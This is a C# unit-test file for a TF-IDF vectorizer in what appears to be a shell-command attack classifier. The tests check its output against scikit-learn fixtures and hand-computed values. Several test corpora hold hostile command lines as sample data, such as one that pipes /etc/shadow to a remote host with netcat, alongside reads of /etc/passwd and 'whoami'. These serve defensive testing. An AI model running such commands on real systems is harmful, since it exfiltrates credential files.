using System.Text.Json;
using AttackClassifier.Kernels;
using AttackClassifier.Text;
using FsCheck.Fluent;
using FsCheck.Xunit;
using FsCheck;

namespace AttackClassifier.Tests.Text;

public class TfidfVectorizerTests
{
    public static TheoryData<string> FixtureNames => new()
    {
        "linux_word_default", "windows_word_max_features", "mixed_word_min_max_df_sublinear",
        "linux_word_trigrams_no_norm_no_smooth", "mixed_word_unigrams_keep_case_fraction_min_df",
        "windows_char_2_5", "mixed_char_wb_2_5_min_df", "linux_char_wb_1_3",
        "sample_word_study", "sample_char_wb_2_5_max_features",
    };

    /// <summary>scikit-learn keyword arguments → our options; an int JSON number is a document count, a float a fraction.</summary>
    internal static TfidfOptions OptionsFrom(JsonElement o)
    {
        static DocumentFrequency Df(JsonElement e) => e.GetRawText().Contains('.')
            ? DocumentFrequency.Fraction(e.GetDouble()) : DocumentFrequency.Documents(e.GetInt32());
        var options = new TfidfOptions();
        foreach (JsonProperty p in o.EnumerateObject())
        {
            options = p.Name switch
            {
                "analyzer" => options with { Analyzer = p.Value.GetString() switch { "char" => TextAnalyzer.Char, "char_wb" => TextAnalyzer.CharWordBoundary, _ => TextAnalyzer.Word } },
                "ngram_range" => options with { NGramRange = new(p.Value[0].GetInt32(), p.Value[1].GetInt32()) },
                "min_df" => options with { MinDocumentFrequency = Df(p.Value) },
                "max_df" => options with { MaxDocumentFrequency = Df(p.Value) },
                "max_features" => options with { MaxFeatures = p.Value.GetInt32() },
                "sublinear_tf" => options with { SublinearTf = p.Value.GetBoolean() },
                "smooth_idf" => options with { SmoothIdf = p.Value.GetBoolean() },
                "lowercase" => options with { Lowercase = p.Value.GetBoolean() },
                "norm" => options with { Norm = p.Value.ValueKind == JsonValueKind.Null ? TfidfNorm.None : TfidfNorm.L2 },
                _ => throw new InvalidDataException($"fixture option {p.Name} is not mapped"),
            };
        }
        return options;
    }

    private static string[] Strings(JsonElement e) => e.EnumerateArray().Select(x => x.GetString()!).ToArray();

    [Theory]
    [MemberData(nameof(FixtureNames))]
    public void Vocabulary_idf_and_matrix_match_scikit_learn(string name)
    {
        using JsonDocument fixture = Fixtures.Json($"tfidf_{name}.json");
        JsonElement root = fixture.RootElement;
        TfidfOptions options = OptionsFrom(root.GetProperty("options"));
        var vectorizer = TfidfVectorizer.Fit(Strings(root.GetProperty("corpus")), options);

        Assert.Equal(Strings(root.GetProperty("vocabulary")), vectorizer.Terms);
        double[] idf = root.GetProperty("idf").EnumerateArray().Select(x => x.GetDouble()).ToArray();
        Assert.Equal(idf.Length, vectorizer.Idf.Length);
        for (int j = 0; j < idf.Length; j++) Assert.True(Math.Abs(idf[j] - vectorizer.Idf[j]) < 1e-12, $"idf[{j}] {vectorizer.Idf[j]} vs {idf[j]}");

        string[] documents = Strings(root.GetProperty("documents"));
        CsrMatrix x = vectorizer.Transform(documents);
        var expected = root.GetProperty("entries").EnumerateArray()
            .ToDictionary(e => (e[0].GetInt32(), e[1].GetInt32()), e => e[2].GetDouble());
        Assert.Equal(documents.Length, x.RowCount);
        Assert.Equal(expected.Count, x.NonZeroCount);
        for (int r = 0; r < x.RowCount; r++)
        {
            ReadOnlySpan<int> columns = x.RowColumns(r);
            ReadOnlySpan<double> values = x.RowValues(r);
            for (int e = 0; e < columns.Length; e++)
            {
                Assert.True(expected.TryGetValue((r, columns[e]), out double v), $"unexpected entry ({r}, {columns[e]} '{vectorizer.Terms[columns[e]]}')");
                Assert.True(Math.Abs(v - values[e]) < 1e-6, $"({r}, {columns[e]}): {values[e]} vs {v}");
            }
        }
    }

    [Fact]
    public void Analyze_gives_the_terms_scikit_learn_fitted_on()
    {
        var unpruned = new TfidfOptions();
        int exact = 0;
        foreach (string name in FixtureNames.Cast<object[]>().Select(row => (string)row[0]))
        {
            using JsonDocument fixture = Fixtures.Json($"tfidf_{name}.json");
            TfidfOptions options = OptionsFrom(fixture.RootElement.GetProperty("options"));
            var analyzed = Strings(fixture.RootElement.GetProperty("corpus")).SelectMany(d => TfidfVectorizer.Analyze(d, options)).ToHashSet(StringComparer.Ordinal);
            string[] vocabulary = Strings(fixture.RootElement.GetProperty("vocabulary"));
            Assert.Subset(analyzed, vocabulary.ToHashSet(StringComparer.Ordinal));   // pruning only removes terms
            if (options.MaxFeatures is null && options.MinDocumentFrequency == unpruned.MinDocumentFrequency && options.MaxDocumentFrequency == unpruned.MaxDocumentFrequency)
            {
                Assert.Equal(vocabulary, analyzed.Order(StringComparer.Ordinal));   // nothing pruned: exactly build_analyzer's terms
                exact++;
            }
        }
        Assert.True(exact > 0, "no fixture without pruning");
    }

    [Fact]
    public void Analyze_keeps_scikit_learns_order_and_repeats()
    {
        // _char_wb_ngrams on "Ab": w = " ab ", n = 2 then n = 3.
        Assert.Equal([" a", "ab", "b ", " ab", "ab "], TfidfVectorizer.Analyze("Ab", new TfidfOptions { Analyzer = TextAnalyzer.CharWordBoundary, NGramRange = new(2, 3) }));
        // _word_ngrams: all unigrams, then all bigrams; a repeated token stays repeated.
        string[] tokens = CommandLineTokenizer.Tokenize("cat /etc/shadow cat");
        Assert.Equal([.. tokens, .. tokens.Zip(tokens.Skip(1), (a, b) => a + " " + b)], TfidfVectorizer.Analyze("CAT /etc/shadow cat"));
        Assert.Equal(2, TfidfVectorizer.Analyze("cat /etc/shadow cat").Count(t => t == "cat"));
    }

    [Fact]
    public void Three_document_corpus_matches_hand_computed_values()
    {
        // Unigrams only. N = 3; df(cat) = 2, df(etc) = 1, df(ls) = 2.  idf = ln(4 / (1 + df)) + 1.
        var v = TfidfVectorizer.Fit(["cat /etc", "ls ls", "cat ls"], new TfidfOptions { NGramRange = new(1, 1) });
        Assert.Equal(new[] { "/etc", "cat", "ls" }, v.Terms);
        double idf1 = Math.Log(4.0 / 2.0) + 1, idf2 = Math.Log(4.0 / 3.0) + 1;
        Assert.Equal(idf1, v.Idf[0], 12);
        Assert.Equal(idf2, v.Idf[1], 12);
        Assert.Equal(idf2, v.Idf[2], 12);
        CsrMatrix x = v.Transform(["cat /etc", "ls ls", "cat ls"]);
        // Row 0: (idf1, idf2) / ‖·‖;  row 1: ls only → 1;  row 2: (idf2, idf2) / ‖·‖ = 1/√2 each.
        double n0 = Math.Sqrt(idf1 * idf1 + idf2 * idf2);
        Assert.Equal(idf1 / n0, x[0, 0], 12);
        Assert.Equal(idf2 / n0, x[0, 1], 12);
        Assert.Equal(1.0, x[1, 2], 12);
        Assert.Equal(Math.Sqrt(0.5), x[2, 1], 12);
        Assert.Equal(0.0, x[1, 0]);
    }

    [Fact]
    public void Max_features_breaks_ties_by_count_then_ordinal_term_order()
    {
        // Total counts: bb 3; aa 2, "bb aa" 2; "aa zz", "bb yy", yy, zz 1 each.
        string[] corpus = ["bb aa", "bb aa zz", "bb yy"];
        var v = TfidfVectorizer.Fit(corpus, new TfidfOptions { MaxFeatures = 4 });
        // bb, then the tie at 2 in ordinal order (aa < "bb aa"), then the first count-1 term in ordinal order: "aa zz".
        Assert.Equal(new[] { "aa", "aa zz", "bb", "bb aa" }, v.Terms);
        Assert.Equal(new[] { "aa", "bb", "bb aa" }, TfidfVectorizer.Fit(corpus, new TfidfOptions { MaxFeatures = 3 }).Terms);
        // Independent of document order.
        Assert.Equal(v.Terms, TfidfVectorizer.Fit(corpus.Reverse().ToArray(), new TfidfOptions { MaxFeatures = 4 }).Terms);
    }

    [Fact]
    public void Document_frequency_counts_rows_and_bounds_compare_like_scikit_learn()
    {
        string[] corpus = ["aa aa aa", "aa bb", "bb cc", "dd"];
        var unigram = new TfidfOptions { NGramRange = new(1, 1) };
        // df: aa 2, bb 2, cc 1, dd 1. min 2 documents keeps aa, bb; max 0.5·4 = 2 keeps all; max 0.49·4 = 1.96 keeps cc, dd.
        Assert.Equal(new[] { "aa", "bb" }, TfidfVectorizer.Fit(corpus, unigram with { MinDocumentFrequency = DocumentFrequency.Documents(2) }).Terms);
        Assert.Equal(4, TfidfVectorizer.Fit(corpus, unigram with { MaxDocumentFrequency = DocumentFrequency.Fraction(0.5) }).FeatureCount);
        Assert.Equal(new[] { "cc", "dd" }, TfidfVectorizer.Fit(corpus, unigram with { MaxDocumentFrequency = DocumentFrequency.Fraction(0.49) }).Terms);
    }

    [Fact]
    public void Bad_input_raises_specific_errors()
    {
        Assert.Throws<ArgumentException>(() => TfidfVectorizer.Fit([]));
        Assert.Contains("Empty vocabulary", Assert.Throws<ArgumentException>(() => TfidfVectorizer.Fit(["a b c", "!!"])).Message);
        Assert.Contains("no terms remain", Assert.Throws<ArgumentException>(() =>
            TfidfVectorizer.Fit(["aa", "bb"], new TfidfOptions { MinDocumentFrequency = DocumentFrequency.Documents(2) })).Message);
        Assert.Contains("below MinDocumentFrequency", Assert.Throws<ArgumentException>(() =>
            TfidfVectorizer.Fit(["aa", "bb"], new TfidfOptions { MinDocumentFrequency = DocumentFrequency.Documents(2), MaxDocumentFrequency = DocumentFrequency.Documents(1) })).Message);
        Assert.Contains("NGramRange", Assert.Throws<ArgumentException>(() => TfidfVectorizer.Fit(["aa"], new TfidfOptions { NGramRange = new(2, 1) })).Message);
        Assert.Contains("MaxFeatures", Assert.Throws<ArgumentException>(() => TfidfVectorizer.Fit(["aa"], new TfidfOptions { MaxFeatures = 0 })).Message);
        Assert.Throws<ArgumentException>(() => TfidfVectorizer.Fit(["aa"], new TfidfOptions { MinDocumentFrequency = default }));
        Assert.Throws<ArgumentOutOfRangeException>(() => DocumentFrequency.Fraction(1.5));
        Assert.Throws<ArgumentOutOfRangeException>(() => DocumentFrequency.Documents(0));
        Assert.Throws<ArgumentException>(() => TfidfVectorizer.Fit(["aa", null!]));

        var v = TfidfVectorizer.Fit(["aa bb cc"]);
        Assert.Contains("too short", Assert.Throws<ArgumentException>(() => v.Transform("aa bb", new int[1], new double[1])).Message);
        Assert.Throws<ArgumentException>(() => v.Transform("aa", new int[5], new double[4]));
    }

    private static readonly string[] Words = ["cat", "/etc/passwd", "-la", "ls", "10.0.0.1", "$home", "c:\\temp\\x.exe", "whoami", "0x1f", "bash", "a", "!", "http://x.y/z"];

    private static Arbitrary<string[]> Corpora() =>
        Gen.Elements(Words).ArrayOf().Select(ws => string.Join(' ', ws.Take(12)))
            .ArrayOf().Where(docs => docs.Length > 0 && docs.Any(d => CommandLineTokenizer.Tokenize(d).Length > 0))
            .ToArbitrary();

    [Property(MaxTest = 200)]
    public Property Rows_have_unit_norm_or_are_empty_and_entries_are_positive() =>
        Prop.ForAll(Corpora(), corpus =>
        {
            var v = TfidfVectorizer.Fit(corpus, new TfidfOptions { SublinearTf = corpus.Length % 2 == 0 });
            CsrMatrix x = v.Transform(corpus.Append("unseen tokens only").ToArray());
            for (int r = 0; r < x.RowCount; r++)
            {
                ReadOnlySpan<double> values = x.RowValues(r);
                double sq = 0;
                foreach (double value in values) { Assert.True(value > 0); sq += value * value; }
                Assert.True(values.Length == 0 || Math.Abs(Math.Sqrt(sq) - 1) < 1e-12);
            }
        });

    [Property(MaxTest = 200)]
    public Property Vocabulary_and_idf_do_not_depend_on_document_order() =>
        Prop.ForAll(Corpora(), corpus =>
        {
            var a = TfidfVectorizer.Fit(corpus, new TfidfOptions { MaxFeatures = 5 });
            var b = TfidfVectorizer.Fit(corpus.Reverse().ToArray(), new TfidfOptions { MaxFeatures = 5 });
            Assert.Equal(a.Terms, b.Terms);
            Assert.Equal(a.Idf.ToArray(), b.Idf.ToArray());
        });

    [Property(MaxTest = 100)]
    public Property A_vectorizer_rebuilt_from_its_state_transforms_identically() =>
        Prop.ForAll(Corpora(), corpus =>
        {
            var options = new TfidfOptions { Analyzer = (TextAnalyzer)(corpus.Length % 3), NGramRange = new(1, 3) };
            var fitted = TfidfVectorizer.Fit(corpus, options);
            var rebuilt = TfidfVectorizer.FromState(fitted.Options, fitted.Terms, fitted.Idf.ToArray());
            AssertSameMatrix(fitted.Transform(corpus), rebuilt.Transform(corpus));
        });

    [Fact]
    public void From_state_rejects_inconsistent_state()
    {
        var options = new TfidfOptions();
        Assert.Contains("ascending", Assert.Throws<ArgumentException>(() => TfidfVectorizer.FromState(options, ["bb", "aa"], [1.0, 1.0])).Message);
        Assert.Throws<ArgumentException>(() => TfidfVectorizer.FromState(options, ["aa", "aa"], [1.0, 1.0]));
        Assert.Throws<ArgumentException>(() => TfidfVectorizer.FromState(options, ["aa"], [1.0, 1.0]));
        Assert.Throws<ArgumentException>(() => TfidfVectorizer.FromState(options, ["aa"], [double.NaN]));
        Assert.Throws<ArgumentException>(() => TfidfVectorizer.FromState(options, ["aa"], [0.5]));
        Assert.Throws<ArgumentException>(() => TfidfVectorizer.FromState(options, [], []));
    }

    [Fact]
    public void Single_command_transform_into_buffers_equals_the_batch_row_and_does_not_allocate()
    {
        string[] corpus = ["cat /etc/passwd", "ls -la /tmp", "cat /etc/shadow | nc 10.0.0.1 4444"];
        var v = TfidfVectorizer.Fit(corpus);
        CsrMatrix x = v.Transform(corpus);
        var columns = new int[v.FeatureCount];
        var values = new double[v.FeatureCount];
        for (int r = 0; r < corpus.Length; r++)
        {
            int nnz = v.Transform(corpus[r], columns, values);
            Assert.Equal(x.RowColumns(r).ToArray(), columns[..nnz]);
            Assert.Equal(x.RowValues(r).ToArray(), values[..nnz]);
        }
        v.Transform(corpus[2], columns, values);   // warm the per-thread scratch
        long before = GC.GetAllocatedBytesForCurrentThread();
        for (int i = 0; i < 100; i++) v.Transform(corpus[2], columns, values);
        Assert.Equal(0, GC.GetAllocatedBytesForCurrentThread() - before);
    }

    [Fact]
    public void Feature_union_puts_word_columns_then_char_columns()
    {
        string[] corpus = ["cat /etc/passwd", "ls -la /tmp", "whoami /all"];
        var word = new TfidfOptions();
        var chars = new TfidfOptions { Analyzer = TextAnalyzer.CharWordBoundary, NGramRange = new(2, 5) };
        var union = TfidfFeatureUnion.Fit(corpus, word, chars);
        var w = TfidfVectorizer.Fit(corpus, word);
        var c = TfidfVectorizer.Fit(corpus, chars);
        Assert.Equal(w.FeatureCount + c.FeatureCount, union.FeatureCount);
        Assert.Equal(w.FeatureCount, union.ColumnOffset(1));
        CsrMatrix u = union.Transform(corpus), xw = w.Transform(corpus), xc = c.Transform(corpus);
        for (int r = 0; r < corpus.Length; r++)
        {
            Assert.Equal(xw.RowColumns(r).ToArray().Concat(xc.RowColumns(r).ToArray().Select(j => j + w.FeatureCount)), u.RowColumns(r).ToArray());
            Assert.Equal(xw.RowValues(r).ToArray().Concat(xc.RowValues(r).ToArray()), u.RowValues(r).ToArray());
        }
        Assert.Throws<ArgumentException>(() => TfidfFeatureUnion.Fit(corpus));
    }

    [Fact]
    public void Char_analyzer_collapses_whitespace_runs_but_keeps_a_single_tab()
    {
        var v = TfidfVectorizer.Fit(["a\tb  c"], new TfidfOptions { Analyzer = TextAnalyzer.Char, NGramRange = new(2, 2) });
        Assert.Equal(new[] { "\tb", " c", "a\t", "b " }, v.Terms);
        var wb = TfidfVectorizer.Fit(["ab c"], new TfidfOptions { Analyzer = TextAnalyzer.CharWordBoundary, NGramRange = new(2, 5) });
        // " ab " → " a","ab","b "," ab","ab "," ab " (n = 4 covers it all, stop); " c " → " c","c "," c " (n = 3 covers it, stop).
        Assert.Equal(new[] { " a", " ab", " ab ", " c", " c ", "ab", "ab ", "b ", "c " }, wb.Terms);
    }

    internal static void AssertSameMatrix(CsrMatrix a, CsrMatrix b)
    {
        Assert.Equal(a.RowCount, b.RowCount);
        Assert.Equal(a.ColumnCount, b.ColumnCount);
        for (int r = 0; r < a.RowCount; r++)
        {
            Assert.Equal(a.RowColumns(r).ToArray(), b.RowColumns(r).ToArray());
            Assert.Equal(a.RowValues(r).ToArray(), b.RowValues(r).ToArray());
        }
    }
}

public class TextPathologicalInputTests
{
    [Theory]
    [InlineData(TextAnalyzer.Word)]
    [InlineData(TextAnalyzer.Char)]
    [InlineData(TextAnalyzer.CharWordBoundary)]
    public void A_megabyte_command_transforms_in_linear_time(TextAnalyzer analyzer)
    {
        var v = TfidfVectorizer.Fit(["cat /etc/passwd -la 10.0.0.1", "ls -la /tmp"], new TfidfOptions { Analyzer = analyzer, NGramRange = analyzer == TextAnalyzer.Word ? new(1, 2) : new(2, 5) });
        string line = string.Concat(Enumerable.Repeat("cat /etc/passwd -la ", 50_000)) + new string('/', 100_000) + new string('-', 100_000);
        var columns = new int[v.FeatureCount];
        var values = new double[v.FeatureCount];
        var watch = System.Diagnostics.Stopwatch.StartNew();
        int nnz = v.Transform(line, columns, values);
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(10), $"took {watch.Elapsed} — a hang, not a slow machine");
        Assert.InRange(nnz, 1, v.FeatureCount);
        double sq = 0;
        for (int e = 0; e < nnz; e++) sq += values[e] * values[e];
        Assert.Equal(1.0, Math.Sqrt(sq), 12);
    }

    [Fact]
    public void A_megabyte_command_encodes_to_max_length()
    {
        var e = SequenceEncoder.Fit(["cat /etc/passwd"], new SequenceEncoderOptions { Split = SequenceSplit.CyberTokenizer });
        int[] x = e.Encode(string.Concat(Enumerable.Repeat("cat /etc/passwd \0\ud800 ", 40_000)));
        Assert.Equal(20, x.Length);
        Assert.All(x, i => Assert.InRange(i, 1, e.VocabularySize - 1));
    }
}
